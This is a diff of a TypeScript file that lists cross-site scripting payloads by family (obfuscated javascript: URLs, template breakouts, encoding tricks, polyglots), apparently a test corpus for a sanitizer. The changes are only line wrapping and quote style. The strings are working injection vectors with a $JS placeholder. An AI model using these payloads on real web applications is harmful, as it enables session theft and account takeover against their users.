@@ -132,7 +132,10 @@ const raw: [XssFamily, string][] = [
   ['javascript-url', '<a href="java&#10;script:$JS">link</a>'],
   ['javascript-url', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$JS">link</a>'],
   ['javascript-url', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;$JS">link</a>'],
-  ['javascript-url', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$JS">link</a>'],
+  [
+    'javascript-url',
+    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$JS">link</a>',
+  ],
   ['javascript-url', '<a href="javascript&colon;$JS">link</a>'],
   ['javascript-url', '<a href="javascript:$HEXJS">link</a>'],
   ['javascript-url', '<a href="javascript:$PCTJS">link</a>'],
@@ -272,7 +275,7 @@ const raw: [XssFamily, string][] = [
   ['template-breakout', '{{{ "<img src=x onerror=$JS>" }}}'],
   ['template-breakout', '<div v-html="\'<img src=x onerror=$JS>\'"></div>'],
   ['template-breakout', '";$JS;"'],
-  ["template-breakout", "';$JS;'"],
+  ['template-breakout', "';$JS;'"],
   ['template-breakout', '`;$JS;`'],
   ['template-breakout', '</script><script>$JS</script>'],
   ['template-breakout', '\\u003c/script\\u003e\\u003cscript\\u003e$JS\\u003c/script\\u003e'],
@@ -361,7 +364,10 @@ const raw: [XssFamily, string][] = [
   ['encoding', '\u202E<img src=x onerror=$JS>'],
 
   // Polyglots: one string hostile in many contexts at once.
-  ['polyglot', 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */$JS )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=$JS//>\\x3e'],
+  [
+    'polyglot',
+    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */$JS )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=$JS//>\\x3e',
+  ],
   ['polyglot', '\'"--></style></script></textarea></title><script>$JS</script>'],
   ['polyglot', '" onclick=$JS//<button \' onclick=$JS//> */ alert($N)//'],
   ['polyglot', '\'">><marquee><img src=x onerror=$JS></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt($N)>'],
